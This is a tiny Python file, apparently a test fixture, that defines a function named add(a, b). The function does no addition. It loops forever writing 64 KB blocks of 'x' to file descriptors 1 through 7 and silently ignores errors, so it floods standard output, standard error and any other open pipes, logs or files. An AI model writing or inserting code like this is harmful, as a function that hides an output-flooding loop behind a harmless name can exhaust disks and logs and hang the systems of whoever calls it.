"""Say more than anybody can keep."""

import os


def add(a, b):
    while True:
        for number in range(1, 8):
            try:
                os.write(number, b"x" * 65536)
            except OSError:
                pass
